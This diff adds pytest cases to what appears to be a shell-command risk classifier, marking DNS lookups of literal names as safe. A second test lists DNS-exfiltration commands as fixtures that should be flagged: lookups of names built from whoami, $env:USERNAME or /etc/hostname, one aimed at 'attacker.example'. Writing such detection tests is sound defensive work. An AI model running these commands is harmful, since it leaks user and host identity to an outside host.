@@ -526,3 +526,37 @@ def test_sed_substitution_text_is_data(command: str) -> None:
 )
 def test_sed_write_and_run_commands_keep_their_level(command: str, want: object) -> None:
     assert _level(command) == want
+
+
+# --- DNS lookups of a literal name are read-only in every shell (one convention, h19) -------
+@pytest.mark.parametrize(
+    ("command", "shell"),
+    [
+        ("nslookup example.com", "bash"),
+        ("dig +short example.com MX", "bash"),
+        ("host -t txt example.org", "bash"),
+        ("nslookup -type=srv _ldap._tcp.corp.local", "cmd"),
+        ("Resolve-DnsName example.com", "powershell"),
+        ("Resolve-DnsName -Name contoso.com -Type MX -Server 8.8.8.8", "powershell"),
+        ("'a.org','b.org' | Resolve-DnsName", "powershell"),
+        ("[System.Net.Dns]::GetHostAddresses('example.com')", "powershell"),
+        ('[Net.Dns]::GetHostEntry("intranet.example.com")', "powershell"),
+    ],
+)
+def test_dns_lookup_of_a_literal_name_is_safe(command: str, shell: str) -> None:
+    assert _level(command, shell) == S
+
+
+@pytest.mark.parametrize(
+    ("command", "shell"),
+    [
+        ('Resolve-DnsName "$(whoami).x.example.com"', "powershell"),
+        ('Resolve-DnsName -Name "$env:USERNAME.t.example.org" -Type TXT', "powershell"),
+        ('[Net.Dns]::GetHostAddresses("$env:USERNAME.h.example")', "powershell"),
+        ('[System.Net.Dns]::GetHostEntry("$(whoami).h.example")', "powershell"),
+        ("nslookup $(whoami).attacker.example", "bash"),
+        ("dig $(cat /etc/hostname).x.example", "bash"),
+    ],
+)
+def test_dns_names_built_from_run_time_values_stay_exfiltration(command: str, shell: str) -> None:
+    assert _level(command, shell) == C
